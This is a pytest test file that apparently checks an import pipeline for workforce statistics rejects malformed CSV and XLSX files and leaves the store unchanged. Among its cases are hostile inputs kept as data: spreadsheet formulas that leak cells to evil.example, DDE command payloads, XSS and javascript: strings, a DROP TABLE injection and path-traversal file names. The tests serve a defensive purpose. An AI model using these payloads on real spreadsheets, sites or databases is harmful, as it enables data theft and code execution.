"""A corpus of bad import files: each is refused with a precise problem, and the store stays byte-for-byte the same.

Every case goes through `plan_import` on SQLite and on a real PostgreSQL server. If a plan could
unexpectedly be committed, `commit` must still refuse it. Hostile text (spreadsheet formulas,
HTML/script) must be reported as text, never evaluated; the file name is only ever a label.
"""
from __future__ import annotations

import random
from dataclasses import dataclass, field
from typing import Callable

import pandas as pd
import pytest

from tests.support.bad_inputs import (
    COLUMNS,
    HEADER,
    TITLE,
    URL,
    csv_bytes,
    csv_text,
    national_set,
    row,
    store_snapshot,
    xlsx_bytes,
    xlsx_damaged_late,
    xlsx_from_rows,
    zip_bomb,
    zip_bytes,
)
from tests.support.stores import BUNDLE, bundled_store, fresh_postgres_database
from workforce import schema
from workforce.ingest.plan import CommitRefused, commit, plan_import, read_file
from workforce.store import active_figures, ensure_store, state_token

ANY = object()  # row/column not checked

PNG = b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x00\x01\x00\x00\x00\x01\x08\x06\x00\x00\x00\x1f\x15\xc4\x89"
PDF = b"%PDF-1.7\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\n%%EOF\n"
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 512
ELF = b"\x7fELF\x02\x01\x01\x00" + b"\x00" * 56
GOOD_CSV = csv_bytes([row()])
GOOD_XLSX_ROWS = [row(), row(prefecture="大阪府", value="67611")]


@dataclass(frozen=True)
class Case:
    data: bytes | Callable[[], bytes]
    file_name: str
    fmt: str
    expected: str | tuple[str, ...]  # substring(s) of Problem.expected; a tuple accepts any of them
    row: object = ANY  # int, None (a whole-file problem) or ANY
    column: object = ANY  # str or ANY
    value: object = ANY  # the offending text as Problem.value must show it, or ANY
    env: dict = field(default_factory=dict)
    source: dict = field(default_factory=dict)

    def bytes(self) -> bytes:
        return self.data() if callable(self.data) else self.data


def case(name: str, *args, **kwargs):
    return pytest.param(Case(*args, **kwargs), id=name)


def one(**changes) -> bytes:
    """A long CSV with one data row (line 2) carrying `changes`."""
    return csv_bytes([row(**changes)])


def second(**changes) -> bytes:
    """A long CSV whose first data row is good and whose second (line 3) carries `changes`."""
    return csv_bytes([row(), row(**{"prefecture": "大阪府", **changes})])


def xlsx_one(**changes) -> bytes:
    return xlsx_from_rows([row(**changes)])


VALUE = "a whole number of persons, zero or more"
PREF = "a JIS code 01-47 (00 national), or a prefecture name"
DATE = "a date as YYYY-MM-DD"
URL_RULE = "an http:// or https:// address of the source"
BREAKDOWN = "total, or a status/industry listed for this measure"
DUPLICATE = "this key appears twice"
MONTH = "period_end month must fit the measure"
NOT_TEXT = "a text CSV, but this is"

CASES = [
    # --- encodings -------------------------------------------------------------------------------
    case("utf16-with-bom", csv_text([row()]).encode("utf-16"), "utf16.csv", "csv",
         (NOT_TEXT, "UTF-8"), row=None),
    case("utf16le-no-bom", csv_text([row()]).encode("utf-16-le"), "utf16le.csv", "auto",
         (NOT_TEXT, "UTF-8"), row=None),
    case("latin1-invalid-in-utf8-and-cp932",
         csv_bytes([row(prefecture="Aichi", source_title="Café statistique, année 2025 ÿ")], encoding="latin-1"),
         "latin1.csv", "csv", "text in UTF-8 (with or without BOM) or Shift_JIS/CP932", row=None),
    case("mixed-utf8-and-cp932-lines",
         csv_bytes([row()]) + csv_text([row(prefecture="大阪府")]).split("\n", 1)[1].encode("cp932"),
         "mixed.csv", "auto", "text in UTF-8 (with or without BOM) or Shift_JIS/CP932", row=None),
    # --- binary files renamed .csv, and bytes that are no format at all -------------------------
    case("png-renamed-csv", PNG, "chart.csv", "csv", f"{NOT_TEXT} a PNG image", row=None),
    case("png-auto", PNG, "upload", "auto", f"{NOT_TEXT} a PNG image", row=None),
    case("pdf-renamed-csv", PDF, "report.csv", "csv", f"{NOT_TEXT} a PDF", row=None),
    case("pdf-auto", PDF, "report.pdf", "auto", f"{NOT_TEXT} a PDF", row=None),
    case("zip-renamed-csv", zip_bytes({"figures.csv": GOOD_CSV}), "figures.csv", "csv",
         f"{NOT_TEXT} a zip/xlsx file", row=None),
    case("zip-auto-no-workbook", zip_bytes({"figures.csv": GOOD_CSV}), "figures.zip", "auto",
         "this zip archive has no xl/workbook.xml", row=None),
    case("nul-bytes-in-csv", csv_bytes([row()]).replace(b"67842", b"678\x0042"), "nul.csv", "csv",
         "it contains NUL bytes", row=None),
    case("old-xls-auto", OLE, "old.xls", "auto", f"{NOT_TEXT} an old Excel (.xls)", row=None),
    case("elf-executable-auto", ELF, "run.csv", "auto", "it contains NUL bytes", row=None),
    case("random-bytes-auto", random.Random(1).randbytes(4096), "noise.bin", "auto", NOT_TEXT, row=None),
    case("gzip-renamed-csv", b"\x1f\x8b\x08\x00" + b"\x00" * 20, "figures.csv", "csv", f"{NOT_TEXT} a gzip file", row=None),
    case("unknown-format-name", GOOD_CSV, "figures.csv", "pdf", "a format among auto, csv, xlsx", row=None),
    # --- empty, header only, columns -------------------------------------------------------------
    case("empty-file", b"", "empty.csv", "csv", "this file is empty", row=None),
    case("empty-file-auto", b"", "empty", "auto", "this file is empty", row=None),
    case("bom-only", b"\xef\xbb\xbf", "bom.csv", "csv", "a header row and data rows", row=None),
    case("blank-lines-only", b"\n\n   \n", "blank.csv", "csv", "a header row and data rows", row=None),
    case("header-only", HEADER.encode(), "header.csv", "csv", "at least one data row below the header", row=None),
    case("header-only-no-final-newline", HEADER.strip().encode(), "header.csv", "auto",
         "at least one data row below the header", row=None),
    case("missing-value-column", csv_bytes([row()], columns=[c for c in COLUMNS if c != "value"]), "novalue.csv",
         "csv", "missing: value", row=1),
    case("misspelt-header", csv_text([row()]).replace("prefecture", "prefecure", 1).encode(), "typo.csv", "csv",
         "missing: prefecture", row=1),
    case("wrong-columns-entirely", b"name,age,city\nBob,33,Nagoya\n", "people.csv", "csv",
         "missing: period_end, prefecture, nationality, measure, breakdown, value", row=1),
    case("missing-source-columns-none-given", csv_bytes([row()], columns=COLUMNS[:6]), "nosource.csv", "csv",
         "missing: source_title, source_url", row=1),
    case("duplicate-value-column", (HEADER.replace("value,", "value,Value,") +
                                    f"2025-06-30,愛知県,VN,residents,total,5,7,{TITLE},{URL}\n").encode(),
         "dupcol.csv", "csv", "column", row=1),
    case("duplicate-value-column-xlsx",
         xlsx_bytes([COLUMNS[:6] + ["Value"] + COLUMNS[6:], ["2025-06-30", "愛知県", "VN", "residents", "total", 5, 7, TITLE, URL]]),
         "dupcol.xlsx", "xlsx", "column", row=1),
    # --- key fields --------------------------------------------------------------------------------
    case("unknown-prefecture", second(prefecture="Atlantis"), "pref.csv", "csv", PREF, row=3, column="prefecture",
         value="Atlantis"),
    case("prefecture-code-48", one(prefecture="48"), "pref48.csv", "csv", PREF, row=2, column="prefecture"),
    case("bad-row-after-blank-line", (csv_text([row()]) + "\n" + csv_text([row(prefecture="Atlantis")]).split("\n", 1)[1])
         .encode(), "blankline.csv", "csv", PREF, row=4, column="prefecture"),
    case("date-slashes", one(period_end="2025/06/30"), "d1.csv", "csv", DATE, row=2, column="period_end"),
    case("date-month-13", one(period_end="2025-13-01"), "d2.csv", "csv", DATE, row=2, column="period_end"),
    case("date-day-first", one(period_end="30-06-2025"), "d3.csv", "csv", DATE, row=2, column="period_end"),
    case("date-feb-30", one(period_end="2025-02-30"), "d4.csv", "csv", DATE, row=2, column="period_end"),
    case("date-unpadded", second(period_end="2025-6-30"), "d5.csv", "csv", DATE, row=3, column="period_end"),
    case("residents-in-july", one(period_end="2025-07-31"), "month.csv", "csv", MONTH, row=2, column="period_end"),
    case("workers-in-june", one(measure="workers", period_end="2025-06-30"), "month2.csv", "csv", MONTH, row=2,
         column="period_end"),
    case("unknown-measure", one(measure="population"), "measure.csv", "csv",
         "one of residents, workers, establishments, registered_foreigners", row=2, column="measure"),
    case("unknown-breakdown", one(breakdown="ninja"), "bd.csv", "csv", BREAKDOWN, row=2, column="breakdown"),
    case("workers-breakdown-on-residents", one(breakdown="status: professional/technical"), "bd2.csv", "csv",
         BREAKDOWN, row=2, column="breakdown"),
    case("unknown-nationality", one(nationality="CN"), "nat.csv", "csv", "VN (Vietnam) or ALL", row=2,
         column="nationality"),
    # --- values ------------------------------------------------------------------------------------
    case("negative-value", one(value="-5"), "neg.csv", "csv", VALUE, row=2, column="value", value="-5"),
    case("triangle-value", second(value="△5"), "tri.csv", "csv", VALUE, row=3, column="value", value="△5"),
    case("black-triangle-value", one(value="▲120"), "tri2.csv", "csv", VALUE, row=2, column="value"),
    case("decimal-value", one(value="1.5"), "dec.csv", "csv", VALUE, row=2, column="value"),
    case("decimal-comma-value", one(value="1,5"), "deccomma.csv", "csv", VALUE, row=2, column="value"),
    case("text-value", one(value="many"), "text.csv", "csv", VALUE, row=2, column="value"),
    case("empty-value", one(value=""), "emptyval.csv", "csv", VALUE, row=2, column="value"),
    case("value-beyond-int64", one(value="99999999999999999999"), "huge.csv", "csv", VALUE, row=2, column="value"),
    case("negative-value-xlsx", xlsx_bytes([COLUMNS, ["2025-06-30", "愛知県", "VN", "residents", "total", -5, TITLE, URL]]),
         "neg.xlsx", "xlsx", VALUE, row=2, column="value"),
    case("decimal-value-xlsx", xlsx_bytes([COLUMNS, ["2025-06-30", "愛知県", "VN", "residents", "total", 1.5, TITLE, URL]]),
         "dec.xlsx", "xlsx", VALUE, row=2, column="value"),
    # --- sources -----------------------------------------------------------------------------------
    case("missing-source-title", second(source_title=""), "title.csv", "csv", "a source title for every figure",
         row=3, column="source_title"),
    case("javascript-url", one(source_url="javascript:alert(document.cookie)"), "js.csv", "csv", URL_RULE, row=2,
         column="source_url", value="javascript:alert(document.cookie)"),
    case("ftp-url", one(source_url="ftp://ftp.moj.go.jp/isa/toukei.csv"), "ftp.csv", "csv", URL_RULE, row=2,
         column="source_url"),
    case("data-url", one(source_url="data:text/html,<script>alert(1)</script>"), "data.csv", "csv", URL_RULE, row=2,
         column="source_url"),
    case("url-without-scheme", one(source_url="www.moj.go.jp/isa/"), "www.csv", "csv", URL_RULE, row=2,
         column="source_url"),
    case("file-level-javascript-url", csv_bytes([row()], columns=COLUMNS[:6]), "filejs.csv", "csv", URL_RULE, row=2,
         column="source_url", source={"source_title": TITLE, "source_url": "javascript:alert(1)"}),
    case("hostile-title-with-javascript-url",
         one(source_title='=HYPERLINK("http://evil.example","click") <script>alert(1)</script>',
             source_url="JavaScript:alert(1)"), "hostiletitle.csv", "csv", URL_RULE, row=2, column="source_url"),
    case("unknown-source-kind", csv_bytes([{**row(), "source_kind": "rumour"}], columns=COLUMNS + ["source_kind"]),
         "kind.csv", "csv", "official or secondary", row=2, column="source_kind"),
    # --- rules across rows ------------------------------------------------------------------------
    case("duplicate-key-same-row", csv_bytes([row(), row()]), "dup.csv", "csv", DUPLICATE, row=3),
    case("duplicate-key-different-spellings",
         csv_bytes([row(prefecture="愛知県"), row(prefecture="大阪府"), row(prefecture="Aichi", nationality="ベトナム")]),
         "dup2.csv", "csv", DUPLICATE, row=4),
    # Without 未定・不詳 the prefectures may fall short of the national figure, never exceed it.
    case("national-total-below-the-prefectures", csv_bytes(national_set(off_by=-1)), "sum.csv", "csv",
         "the 47 prefectures to add up to no more than the national figure", row=None, column="value"),
    case("national-total-off-by-one-with-undetermined", csv_bytes(national_set(off_by=-1, undetermined=321)),
         "sum99.csv", "csv", "they add up to", row=None, column="value"),
    # --- hostile content: reported as text, never evaluated or rendered ---------------------------
    case("formula-hyperlink-in-prefecture", one(prefecture='=HYPERLINK("http://evil.example/?leak="&A1,"Aichi")'),
         "f1.csv", "csv", PREF, row=2, column="prefecture",
         value='=HYPERLINK("http://evil.example/?leak="&A1,"Aichi")'),
    case("formula-cmd-in-breakdown", one(breakdown="+cmd|' /C calc'!A0"), "f2.csv", "csv", BREAKDOWN, row=2,
         column="breakdown", value="+cmd|' /C calc'!A0"),
    case("formula-at-sum-in-nationality", one(nationality="@SUM(1+1)*cmd|' /C calc'!A0"), "f3.csv", "csv",
         "VN (Vietnam) or ALL", row=2, column="nationality", value="@SUM(1+1)*cmd|' /C calc'!A0"),
    case("formula-in-value", one(value="=1+1"), "f4.csv", "csv", VALUE, row=2, column="value", value="=1+1"),
    case("formula-in-measure", one(measure="-2+3+cmd|' /C calc'!A0"), "f5.csv", "csv", "one of residents", row=2,
         column="measure"),
    case("script-tag-in-prefecture", one(prefecture="<script>alert(1)</script>"), "x1.csv", "csv", PREF, row=2,
         column="prefecture", value="<script>alert(1)</script>"),
    case("img-onerror-in-breakdown", one(breakdown='<img src=x onerror="alert(1)">'), "x2.csv", "csv", BREAKDOWN,
         row=2, column="breakdown", value='<img src=x onerror="alert(1)">'),
    case("img-onerror-in-prefecture-xlsx", xlsx_one(prefecture="<img src=x onerror=alert(1)>"), "x3.xlsx", "xlsx",
         PREF, row=2, column="prefecture", value="<img src=x onerror=alert(1)>"),
    case("xlsx-formula-in-prefecture", xlsx_one(prefecture='=HYPERLINK("http://evil.example","Aichi")'), "f6.xlsx",
         "xlsx", PREF, row=2, column="prefecture"),
    case("xlsx-formula-in-value", xlsx_one(value="=SUM(1,2)"), "f7.xlsx", "auto", VALUE, row=2, column="value"),
    # --- limits ------------------------------------------------------------------------------------
    case("oversize-csv", csv_bytes([row(), row(prefecture="大阪府")]), "big.csv", "csv", "a file of at most 300 bytes",
         row=None, env={"WORKFORCE_MAX_UPLOAD_BYTES": "300"}),
    case("oversize-xlsx", lambda: xlsx_from_rows(GOOD_XLSX_ROWS), "big.xlsx", "auto", "a file of at most 1,000 bytes",
         row=None, env={"WORKFORCE_MAX_UPLOAD_BYTES": "1000"}),
    case("too-many-rows-csv", csv_bytes([row(prefecture=p) for p in ("01", "02", "03", "04")]), "rows.csv", "csv",
         "at most 3 data rows; this file has 4", row=None, env={"WORKFORCE_MAX_ROWS": "3"}),
    case("too-many-rows-xlsx", lambda: xlsx_from_rows([row(prefecture=p) for p in ("01", "02", "03")]), "rows.xlsx",
         "xlsx", "at most 2 data rows; this file has 3", row=None, env={"WORKFORCE_MAX_ROWS": "2"}),
    case("xlsx-zip-bomb", zip_bomb, "bomb.xlsx", "auto", "possibly a zip bomb", row=None,
         env={"WORKFORCE_MAX_XLSX_UNCOMPRESSED_BYTES": str(10 * 1024 * 1024)}),
    # --- malformed CSV / xlsx ---------------------------------------------------------------------
    case("unbalanced-quote", (HEADER + '"2025-06-30,愛知県,VN,residents,total,5,ISA,' + URL + "\n").encode(),
         "quote.csv", "csv", "a well-formed CSV", row=None),
    case("too-many-fields", csv_bytes([row()]) + ("2025-06-30,大阪府,VN,residents,total,5,ISA," + URL + ",extra\n").encode(),
         "fields.csv", "csv", "a well-formed CSV", row=None),
    case("too-few-fields", (HEADER + "2025-06-30,愛知県,VN\n").encode(), "short.csv", "csv",
         ("a well-formed CSV", "one of residents, workers")),
    case("xlsx-zip-without-workbook", zip_bytes({"[Content_Types].xml": b"<Types/>", "docProps/app.xml": b"<x/>"}),
         "noworkbook.xlsx", "xlsx", "this zip archive has no xl/workbook.xml", row=None),
    case("xlsx-truncated", lambda: xlsx_from_rows(GOOD_XLSX_ROWS)[:1500], "truncated.xlsx", "xlsx",
         "the zip archive is damaged", row=None),
    case("xlsx-garbage-workbook-part", zip_bytes({"xl/workbook.xml": b"<workbook><sheets><sheet"}), "garbage.xlsx",
         "auto", "a readable .xlsx workbook", row=None),
    case("xlsx-sheet-damaged-after-first-rows", xlsx_damaged_late, "damaged.xlsx", "xlsx",
         "a readable .xlsx workbook", row=ANY),
    case("csv-given-as-xlsx", GOOD_CSV, "figures.xlsx", "xlsx", "this is not a zip archive", row=None),
    case("xlsx-header-only", lambda: xlsx_bytes([COLUMNS]), "header.xlsx", "auto",
         "at least one data row below the header", row=None),
    case("xlsx-empty-sheet", lambda: xlsx_bytes([]), "blank.xlsx", "xlsx", "a header row and data rows", row=None),
    # --- file names are labels, never paths -------------------------------------------------------
    case("path-traversal-name", PNG, "../../etc/passwd.csv", "csv", f"{NOT_TEXT} a PNG image", row=None),
    case("windows-path-name", one(prefecture="Atlantis"), "..\\..\\Windows\\win.ini.csv", "csv", PREF, row=2,
         column="prefecture"),
    case("absolute-path-name-xlsx", b"not a workbook", "/etc/shadow.xlsx", "xlsx", "this is not a zip archive",
         row=None),
    case("html-in-file-name", one(value="-1"), "<img src=x onerror=alert(1)>.csv", "auto", VALUE, row=2,
         column="value"),
]


# One store per backend for the whole corpus: a case must leave it unchanged, which every case checks
# with its own before/after snapshot (a fresh PostgreSQL database per case would cost ~0.5 s each).
@pytest.fixture(scope="module")
def corpus_engine(backend, request, tmp_path_factory):
    if backend == "sqlite":
        url = f"sqlite:///{tmp_path_factory.mktemp('corpus') / 'store.sqlite'}"
    else:
        url = fresh_postgres_database(request.getfixturevalue("postgres_url"), "bad_inputs_corpus")
    engine = bundled_store(url)
    yield engine
    engine.dispose()


def _matches(problem, c: Case) -> bool:
    wanted = c.expected if isinstance(c.expected, tuple) else (c.expected,)
    return (any(w in problem.expected for w in wanted)
            and (c.row is ANY or problem.row == c.row)
            and (c.column is ANY or problem.column == c.column)
            and (c.value is ANY or problem.value == c.value))


def test_corpus_has_enough_cases():
    assert len(CASES) >= 45


@pytest.mark.parametrize("c", CASES)
def test_bad_input_is_refused_and_store_unchanged(c: Case, corpus_engine, monkeypatch, tmp_path):
    for name, value in c.env.items():
        monkeypatch.setenv(name, value)
    monkeypatch.chdir(tmp_path)  # a file name used as a path would land (or fail) here, never in the repo
    engine = corpus_engine
    ensure_store(engine, BUNDLE)
    before, token = store_snapshot(engine), state_token(engine)
    data = c.bytes()

    crash = None
    try:
        plan = plan_import(engine, data, c.file_name, c.fmt, **c.source)
    except Exception as error:  # a crash is a bug: the analyst gets a traceback instead of a problem list
        crash = error
    committed = None
    if crash is None and plan.can_commit:
        try:
            with pytest.raises(CommitRefused):
                committed = commit(engine, plan, actor="tester", note="must be refused", confirm_large_changes=True)
        except pytest.fail.Exception:
            pass  # reported below, after checking what it did to the store

    accepted = "" if committed is None else \
        f": the file was accepted and committed as release {committed}:\n{plan.result.figures.to_string()}"
    assert store_snapshot(engine) == before, "the store changed" + accepted
    assert committed is None, "commit did not refuse" + accepted
    assert state_token(engine) == token
    assert crash is None, f"plan_import raised {type(crash).__name__}: {crash} instead of reporting a problem"
    result = plan.result
    table = result.problem_table().to_string()
    assert not result.ok, "a bad file was accepted"
    assert not plan.can_commit
    assert any(_matches(p, c) for p in result.problems), f"expected {c.expected!r} at row {c.row} column {c.column}:\n{table}"
    untranslatable = [p.expected for p in result.problems if p.message is None]
    assert not untranslatable, f"problems without a locale key (shown in English only): {untranslatable}"
    assert result.file_name == c.file_name
    assert all(p.file == c.file_name for p in result.problems), table
    assert list(tmp_path.iterdir()) == []  # nothing was written anywhere relative to the working folder


def test_sixteen_digit_value_is_refused_or_read_exactly():
    """9,999,999,999,999,999 does not fit a float: it must not silently become 10,000,000,000,000,000."""
    result = read_file(one(value="9999999999999999"), "digits.csv", "csv")
    if result.ok:
        assert result.figures["value"].tolist() == [9999999999999999]


def _good_rows() -> list[dict]:
    return [
        row(period_end="2026-06-30", prefecture="愛知県", value="70001"),
        row(period_end="2026-06-30", prefecture="23", breakdown="技能実習", value="1,234"),
        row(period_end="2026-06-30", prefecture="Osaka", nationality="ベトナム", value="５６７"),
        row(period_end="2026-06-30", prefecture="00", nationality="ALL", value="-"),
        row(period_end="2026-10-31", prefecture="北海道", measure="workers", value="4321",
            source_title="厚生労働省「外国人雇用状況」の届出状況", source_url="https://www.mhlw.go.jp/stf/newpage_1.html"),
    ]


_GOOD_EXPECTED = pd.DataFrame(
    [("2026-06-30", "23", "VN", "residents", "total", 70001),
     ("2026-06-30", "23", "VN", "residents", "技能実習", 1234),
     ("2026-06-30", "27", "VN", "residents", "total", 567),
     ("2026-06-30", "00", "ALL", "residents", "total", 0),
     ("2026-10-31", "01", "VN", "workers", "total", 4321)],
    columns=schema.KEY + ["value"])


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_good_file_has_no_problems_and_commits_exactly_its_figures(bundled_store, bundled_figures, fmt):
    engine = bundled_store
    data = csv_bytes(_good_rows()) if fmt == "csv" else xlsx_from_rows(_good_rows())
    plan = plan_import(engine, data, f"good.{fmt}", "auto")
    assert plan.result.ok, plan.result.problem_table().to_string()
    assert plan.result.problems == [] and plan.can_commit
    # made-up values, far from the stored series (ALL residents 0): confirmed, as an analyst would
    release = commit(engine, plan, actor="tester", confirm_large_changes=True)
    active = active_figures(engine)
    new = active[active["release_id"] == release]
    got = new[schema.KEY + ["value"]].sort_values(schema.KEY, ignore_index=True)
    pd.testing.assert_frame_equal(got, _GOOD_EXPECTED.sort_values(schema.KEY, ignore_index=True), check_dtype=False)
    assert set(new.loc[new["measure"] == "residents", "source_title"]) == {TITLE}
    assert set(new["source_kind"]) == {"official"}
    assert set(new["publisher"]) == {schema.PUBLISHERS["residents"], schema.PUBLISHERS["workers"]}
    old = active[active["release_id"] != release].drop(columns="release_id").reset_index(drop=True)
    pd.testing.assert_frame_equal(old, bundled_figures.sort_values(schema.KEY, ignore_index=True), check_dtype=False)


HOSTILE_TITLES = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"click me")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "<script>alert(1)</script>",
    '<img src=x onerror="alert(document.cookie)">',
    "'; DROP TABLE figures; --",
]


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_hostile_source_titles_are_refused_and_plain_ones_stored_literally(bundled_store, fmt):
    """Formulas and markup in text fields are problems at import (issue 14); other text is stored as written."""
    engine = bundled_store
    rows = [row(period_end="2026-06-30", prefecture=f"{i + 1:02d}", value=str(100 + i), source_title=title)
            for i, title in enumerate(HOSTILE_TITLES)]
    rows[0]["note"] = "<script>alert('note')</script>"
    columns = COLUMNS + ["note"]
    if fmt == "csv":
        data = csv_bytes(rows, columns=columns)
    else:  # openpyxl would store '=...' as a formula; force text cells as an analyst's "text" format does
        import io

        import openpyxl

        workbook = openpyxl.Workbook()
        sheet = workbook.active
        sheet.append(columns)
        for r in rows:
            sheet.append([r.get(c, "") for c in columns])
        for line in sheet.iter_rows(min_row=2):
            for cell in line:
                if isinstance(cell.value, str) and cell.value.startswith("="):
                    cell.data_type = "s"
        buffer = io.BytesIO()
        workbook.save(buffer)
        data = buffer.getvalue()
    before = store_snapshot(engine)
    plan = plan_import(engine, data, f"hostile.{fmt}", "auto")
    found = sorted((p.row, p.column, p.message.key) for p in plan.result.problems)
    assert found == sorted([(2, "note", "text_markup"), (2, "source_title", "text_formula"),
                            (3, "source_title", "text_formula"), (4, "source_title", "text_formula"),
                            (5, "source_title", "text_formula"), (6, "source_title", "text_markup"),
                            (7, "source_title", "text_markup")])
    with pytest.raises(CommitRefused):
        commit(engine, plan, actor="tester")
    assert store_snapshot(engine) == before
    plain = [row(period_end="2026-06-30", value="100", source_title="'; DROP TABLE figures; --",
                 note="5 < 6 & [x](y)")]
    plan = plan_import(engine, csv_bytes(plain, columns=columns) if fmt == "csv" else xlsx_from_rows(plain, columns),
                       f"plain.{fmt}", "auto")
    # a made-up value (100 for Aichi), far from the stored series: confirmed, as an analyst would
    release = commit(engine, plan, actor="tester", confirm_large_changes=True)
    stored = active_figures(engine, period_end="2026-06-30")
    stored = stored[stored["release_id"] == release]
    assert stored["source_title"].tolist() == ["'; DROP TABLE figures; --"]
    assert stored["note"].tolist() == ["5 < 6 & [x](y)"]
    assert len(active_figures(engine)) > 1  # the "DROP TABLE" title dropped nothing
